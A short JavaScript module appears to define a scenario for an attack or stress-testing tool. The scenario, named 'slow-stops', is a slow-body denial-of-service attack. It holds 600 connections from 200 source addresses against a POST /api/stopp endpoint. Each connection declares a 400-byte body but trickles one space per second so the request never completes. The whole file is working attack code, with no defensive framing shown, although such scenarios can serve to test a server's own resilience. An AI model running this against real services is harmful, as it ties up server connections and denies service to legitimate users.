import { addresses, holdConnections, requestText } from '../attack.js';

const head = requestText('POST', '/api/stopp', { body: '{', length: 400 });

/** Stops whose bodies never become whole, each from one of many addresses. */
export default {
  name: 'slow-stops',
  title: '600 stops of 200 addresses whose bodies arrive byte by byte',
  from: addresses(14, 200),
  attack: ({ target, from, connections = 600, everyMs = 1_000 }) =>
    holdConnections({
      target,
      from,
      count: connections,
      use(socket) {
        socket.write(head);
        socket.resume();
        const timer = setInterval(() => socket.write(' '), everyMs);
        return () => clearInterval(timer);
      },
    }),
};
